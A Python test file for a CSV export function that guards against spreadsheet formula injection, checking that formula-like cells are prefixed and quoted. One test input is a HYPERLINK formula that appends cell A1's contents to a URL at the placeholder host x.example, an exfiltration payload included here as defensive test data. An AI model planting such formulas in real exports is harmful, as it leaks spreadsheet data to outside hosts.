"""Spreadsheet-safe CSV cells (OWASP CSV Injection): finding 7 of issue 12."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from fullpicture.core.csv_export import FORMULA_TRIGGERS, csv_cell, csv_line, neutralise_formula


def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_is_quoted() -> None:
    assert csv_cell("=1+1") == '"\'=1+1"'
    assert csv_cell("+44 7700 900000") == '"\'+44 7700 900000"'
    assert csv_cell("-2+3") == '"\'-2+3"'
    assert csv_cell("@SUM(A1)") == '"\'@SUM(A1)"'
    assert csv_cell("\t=1+1") == '"\'\t=1+1"'
    assert csv_cell("\r=1+1") == '"\'\r=1+1"'
    assert csv_cell('=HYPERLINK("http://x.example/?"&A1,"click")') == (
        '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"'
    )
    assert csv_cell("\uff1d1+1") == '"\'\uff1d1+1"'


def test_plain_cells_are_written_as_rfc_4180_does() -> None:
    assert csv_cell("Bruise to cheek") == "Bruise to cheek"
    assert csv_cell("a, b") == '"a, b"'
    assert csv_cell("room #4") == '"room #4"'
    assert csv_cell(None) == "" and csv_cell("") == "" and csv_cell(3) == "3"
    assert csv_line(["a", "=b", None]) == 'a,"\'=b",\r\n'


@given(st.lists(st.text(), min_size=1, max_size=6))
def test_every_cell_reads_back_as_text_no_spreadsheet_runs(cells: list[str]) -> None:
    # A first column that is never empty, as an export's date column (an empty line is no row).
    (row,) = list(csv.reader(io.StringIO(csv_line(["2025-01-01", *cells]), newline="")))
    assert row[1:] == [neutralise_formula(cell) for cell in cells]
    assert not any(cell[:1] in FORMULA_TRIGGERS for cell in row)
